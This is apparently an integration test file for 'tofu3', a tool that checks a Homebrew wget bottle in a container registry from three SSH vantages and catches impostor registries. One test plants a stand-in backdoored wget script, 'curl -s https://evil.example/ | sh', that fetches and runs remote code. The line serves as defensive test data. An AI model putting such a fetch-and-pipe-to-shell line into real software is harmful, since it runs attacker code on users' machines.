"""End to end against the real CNCF distribution registry: the lab's three real sshd vantages
each run their own curl against ``docker-registry``; an impostor instance of the same registry
sits on the network path of one vantage (curl ``--connect-to``, as a DNS or BGP hijack would
put it there, with a certificate the trusted CA mis-issued for the registry's name).

The reference is ``localhost:PORT/homebrew/core/wget:1.24.5``: an index over the real wget
1.24.5 ventura bottle and a second platform, pushed through the registry's own API.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from tests.integration.distribution import (
    DOCKER_REGISTRY,
    REAL_BOTTLE_DIGEST,
    WGET_REPOSITORY,
    WGET_TAG,
    Bottle,
    BottleTree,
    DistributionRegistry,
    bottle_tree,
    push_tree,
    real_ventura_bottle,
    stand_in_bottle,
    start_distribution_registry,
)
from tofu3.lab.manager import LabState, write_inventory
from tofu3.lab.pki import ensure_pki
from tofu3.lab.sshd import free_port, process_alive

pytestmark = pytest.mark.integration

VERIFY_TIMEOUT = 180.0
"""Seconds one ``tofu3 verify`` may take (three vantages, 1.6 MB each, on loopback)."""
SESSION_END_TIMEOUT = 10.0
"""Seconds a vantage's sshd has to end its per-connection processes after tofu3 hangs up."""

VENTURA = "darwin/amd64 (ventura)"
VENTURA_LAYER = f"{VENTURA}/layer[0]"


@dataclass(frozen=True)
class Outcome:
    """One ``tofu3 verify --json`` run: exit status, the JSON report, and stderr."""

    exit_status: int
    report: dict[str, Any]
    stderr: str

    @property
    def findings(self) -> list[dict[str, Any]]:
        """The report's findings."""
        findings: list[dict[str, Any]] = self.report["findings"]
        return findings

    def artifact(self, key: str) -> dict[str, Any]:
        """The report's artifact called ``key``."""
        for artifact in self.report["artifacts"]:
            if artifact["key"] == key:
                found: dict[str, Any] = artifact
                return found
        raise AssertionError(f"no artifact {key!r} in the report")

    def vantage(self, name: str) -> dict[str, Any]:
        """The report's entry for vantage ``name``."""
        for vantage in self.report["vantages"]:
            if vantage["name"] == name:
                found: dict[str, Any] = vantage
                return found
        raise AssertionError(f"no vantage {name!r} in the report")


# Fixtures: one lab and one honest registry for the module; an impostor per attack.


@pytest.fixture(scope="module")
def honest_tree() -> BottleTree:
    """What the publisher pushed: the real ventura bottle, and a Linux one."""
    ventura = real_ventura_bottle()
    assert ventura.digest == REAL_BOTTLE_DIGEST
    return bottle_tree([ventura, linux_stand_in_bottle()])


class RegistryFactory:
    """Starts distribution registries and remembers them, so each one is stopped."""

    def __init__(self, paths: pytest.TempPathFactory, ca_cert: Path, ca_key: Path) -> None:
        self._paths = paths
        self._ca_cert = ca_cert
        self._ca_key = ca_key
        self.started: list[DistributionRegistry] = []

    def start(self, name: str) -> DistributionRegistry:
        """A new, empty registry."""
        registry = start_distribution_registry(
            self._paths.mktemp(name), ca_cert=self._ca_cert, ca_key=self._ca_key
        )
        self.started.append(registry)
        return registry

    def stop_all(self) -> None:
        """Stop every registry started here; fail if any process is left."""
        for registry in self.started:
            registry.stop()
        left = [r.pid for r in self.started if Path(f"/proc/{r.pid}").exists()]
        assert not left, f"docker-registry processes left running: {left}"


@pytest.fixture(scope="module")
def registry_factory(
    loopback_lab: LabState, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RegistryFactory]:
    """Start distribution registries with certificates from the lab CA; every one is stopped
    by pid at the end of the module, and must then be gone."""
    if not DOCKER_REGISTRY.is_file():
        pytest.fail(
            f"{DOCKER_REGISTRY} is missing: install Debian's docker-registry package "
            "(the CNCF distribution registry). These tests must not be skipped."
        )
    pki = ensure_pki(loopback_lab.directory)  # the lab's own CA, reused as it is
    assert pki.ca_cert == loopback_lab.ca_cert
    factory = RegistryFactory(tmp_path_factory, pki.ca_cert, pki.ca_key)
    try:
        yield factory
    finally:
        factory.stop_all()


@pytest.fixture(scope="module")
def origin(registry_factory: RegistryFactory, honest_tree: BottleTree) -> DistributionRegistry:
    """The registry the reference names, serving what the publisher pushed."""
    registry = registry_factory.start("origin")
    push_tree(registry, WGET_REPOSITORY, WGET_TAG, honest_tree)
    return registry


@pytest.fixture
def impostor(registry_factory: RegistryFactory) -> Iterator[DistributionRegistry]:
    """A second, empty registry for one test's attack; stopped when the test ends."""
    registry = registry_factory.start("impostor")
    try:
        yield registry
    finally:
        registry.stop()


# Helpers.


def linux_stand_in_bottle() -> Bottle:
    """The second platform: only the ventura bottle was captured, so Linux gets a stand-in."""
    return stand_in_bottle(
        "x86_64_linux", "linux", "amd64", {"bin/wget": b"#!/bin/sh\necho 'wget stand-in'\n"}
    )


def reference(origin: DistributionRegistry) -> str:
    """The reference every test verifies."""
    return f"{origin.host}/{WGET_REPOSITORY}:{WGET_TAG}"


def routed_inventory(
    lab: LabState,
    path: Path,
    origin: DistributionRegistry,
    detours: Mapping[str, DistributionRegistry] | None = None,
) -> Path:
    """The lab inventory, with each vantage's curl sent to the origin for ``localhost:PORT``,
    except the vantages in ``detours``, whose path leads to another registry instead."""
    detours = detours or {}
    extra = {
        v.name: ["--connect-to", f"{origin.host}:127.0.0.1:{detours.get(v.name, origin).port}"]
        for v in lab.vantages
    }
    return write_inventory(lab, path, curl_args_extra=extra)


def run_verify(ref: str, inventory: Path) -> Outcome:
    """``python -m tofu3.cli verify REF -i INVENTORY --json``, as a user or CI runs it."""
    result = subprocess.run(
        [sys.executable, "-m", "tofu3.cli", "verify", ref, "-i", str(inventory), "--json"],
        capture_output=True,
        text=True,
        timeout=VERIFY_TIMEOUT,  # on expiry subprocess kills the child it started
        env={**os.environ, "NO_COLOR": "1"},
        check=False,
    )
    try:
        report = json.loads(result.stdout)
    except json.JSONDecodeError:
        raise AssertionError(
            f"tofu3 verify printed no JSON report (exit {result.returncode}):\n{result.stderr}"
        ) from None
    assert isinstance(report, dict)
    return Outcome(result.returncode, report, result.stderr)


def children(pid: int) -> list[int]:
    """Pids of the running children of ``pid``."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            stat = (proc / "stat").read_text(encoding="ascii", errors="replace")
        except OSError:
            continue
        fields = stat[stat.rfind(")") + 2 :].split()
        if len(fields) > 1 and fields[1] == str(pid) and fields[0] not in ("Z", "X"):
            found.append(int(proc.name))
    return found


def assert_vantages_left_nothing_running(lab: LabState) -> None:
    """Every SSH session tofu3 opened (and every curl in it) has ended; the vantages' own
    sshd listeners are still the processes the lab started."""
    deadline = time.monotonic() + SESSION_END_TIMEOUT
    while True:
        sessions = {v.name: children(v.pid) for v in lab.vantages}
        sessions = {name: pids for name, pids in sessions.items() if pids}
        if not sessions or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert not sessions, f"processes left on the vantages after tofu3 exited: {sessions}"
    assert all(process_alive(v.pid, v.start_ticks) for v in lab.vantages)


# The promises and the attacks.


def test_an_honest_distribution_registry_is_accepted_by_all_three_vantages(
    loopback_lab: LabState, origin: DistributionRegistry, honest_tree: BottleTree, tmp_path: Path
) -> None:
    inventory = routed_inventory(loopback_lab, tmp_path / "inventory.yaml", origin)

    outcome = run_verify(reference(origin), inventory)

    assert outcome.exit_status == 0, outcome.stderr
    assert outcome.report["verdict"] == "accepted"
    assert outcome.findings == []
    assert [v["ok"] for v in outcome.report["vantages"]] == [True, True, True]
    assert outcome.report["resolved"]["digest"] == honest_tree.index.digest
    assert outcome.report["pinned_reference"] == (
        f"{origin.host}/{WGET_REPOSITORY}@{honest_tree.index.digest}"
    )
    layer = outcome.artifact(VENTURA_LAYER)
    assert layer["digest"] == REAL_BOTTLE_DIGEST
    assert layer["agreed"] is True
    assert {o["digest"] for o in layer["observations"].values()} == {REAL_BOTTLE_DIGEST}
    assert sorted(layer["observations"]) == ["ams", "sfo", "sgp"]
    assert_vantages_left_nothing_running(loopback_lab)
    assert origin.running()


def test_one_vantage_served_a_changed_layer_is_rejected(
    loopback_lab: LabState,
    origin: DistributionRegistry,
    impostor: DistributionRegistry,
    honest_tree: BottleTree,
    tmp_path: Path,
) -> None:
    # The impostor holds the publisher's tree, then its copy of the bottle is changed on disk:
    # same length, so only a hash can tell. distribution serves the file without re-hashing.
    push_tree(impostor, WGET_REPOSITORY, WGET_TAG, honest_tree)
    data_file = impostor.blob_data_path(REAL_BOTTLE_DIGEST)
    tampered = bytearray(data_file.read_bytes())
    tampered[len(tampered) // 2] ^= 0xFF
    data_file.write_bytes(bytes(tampered))
    inventory = routed_inventory(
        loopback_lab, tmp_path / "inventory.yaml", origin, {"sfo": impostor}
    )

    outcome = run_verify(reference(origin), inventory)

    assert outcome.exit_status == 1, outcome.stderr
    assert outcome.report["verdict"] == "rejected"
    mismatches = [f for f in outcome.findings if f["code"] == "DIGEST_MISMATCH"]
    assert len(mismatches) == 1, outcome.findings
    (mismatch,) = mismatches
    assert mismatch["vantage"] == "sfo"
    assert mismatch["artifact"] == VENTURA_LAYER
    assert mismatch["digest"] == REAL_BOTTLE_DIGEST
    # Everything found is about that one layer as sfo saw it; the other vantages are clean.
    assert {(f["vantage"], f["artifact"]) for f in outcome.findings} == {("sfo", VENTURA_LAYER)}
    observed = outcome.artifact(VENTURA_LAYER)["observations"]
    assert observed["ams"]["digest"] == observed["sgp"]["digest"] == REAL_BOTTLE_DIGEST
    assert observed["sfo"]["digest"] != REAL_BOTTLE_DIGEST
    assert observed["sfo"]["size"] == len(tampered)
    assert_vantages_left_nothing_running(loopback_lab)
    impostor.stop()
    assert not Path(f"/proc/{impostor.pid}").exists()


def test_one_vantage_shown_another_consistent_tree_for_the_tag_is_rejected(
    loopback_lab: LabState,
    origin: DistributionRegistry,
    impostor: DistributionRegistry,
    honest_tree: BottleTree,
    tmp_path: Path,
) -> None:
    # A tree that checks out on its own: every digest matches its bytes. Only the other
    # vantages can tell that the tag means something else on sgp's path.
    backdoored = stand_in_bottle(
        "ventura",
        "darwin",
        "amd64",
        {"bin/wget": b"#!/bin/sh\ncurl -s https://evil.example/ | sh\n"},
        os_version="macOS 13",
    )
    other_tree = bottle_tree([backdoored, linux_stand_in_bottle()])
    push_tree(impostor, WGET_REPOSITORY, WGET_TAG, other_tree)
    assert other_tree.index.digest != honest_tree.index.digest
    inventory = routed_inventory(
        loopback_lab, tmp_path / "inventory.yaml", origin, {"sgp": impostor}
    )

    outcome = run_verify(reference(origin), inventory)

    assert outcome.exit_status == 1, outcome.stderr
    assert outcome.report["verdict"] == "rejected"
    on_root = [
        f
        for f in outcome.findings
        if f["code"] == "VANTAGE_DISAGREEMENT" and f["artifact"] == "root"
    ]
    assert len(on_root) == 1, outcome.findings
    assert on_root[0]["vantage"] == "sgp"
    # Nothing else is wrong with what sgp saw: it is consistent, just not what the others saw.
    assert {f["code"] for f in outcome.findings} == {"VANTAGE_DISAGREEMENT"}
    assert {f["vantage"] for f in outcome.findings} == {"sgp"}
    root = outcome.artifact("root")["observations"]
    assert root["ams"]["digest"] == root["sfo"]["digest"] == honest_tree.index.digest
    assert root["sgp"]["digest"] == other_tree.index.digest
    assert outcome.report["pinned_reference"] is None
    assert_vantages_left_nothing_running(loopback_lab)
    impostor.stop()
    assert not Path(f"/proc/{impostor.pid}").exists()


def test_one_vantage_down_is_inconclusive(
    loopback_lab: LabState, origin: DistributionRegistry, tmp_path: Path
) -> None:
    # ams's SSH port is one nothing listens on: the vantage is down, not lying.
    closed = free_port(loopback_lab.vantage("ams").address)
    down = replace(
        loopback_lab,
        vantages=tuple(
            replace(v, port=closed) if v.name == "ams" else v for v in loopback_lab.vantages
        ),
    )
    inventory = routed_inventory(down, tmp_path / "inventory.yaml", origin)

    outcome = run_verify(reference(origin), inventory)

    assert outcome.exit_status == 3, outcome.stderr
    assert outcome.report["verdict"] == "inconclusive"
    assert [(f["code"], f["vantage"]) for f in outcome.findings] == [("VANTAGE_UNREACHABLE", "ams")]
    assert outcome.vantage("ams")["ok"] is False
    assert outcome.vantage("ams")["error_code"] == "VANTAGE_UNREACHABLE"
    assert outcome.vantage("sfo")["ok"] is True
    assert outcome.vantage("sgp")["ok"] is True
    assert outcome.report["pinned_reference"] is None
    assert_vantages_left_nothing_running(loopback_lab)
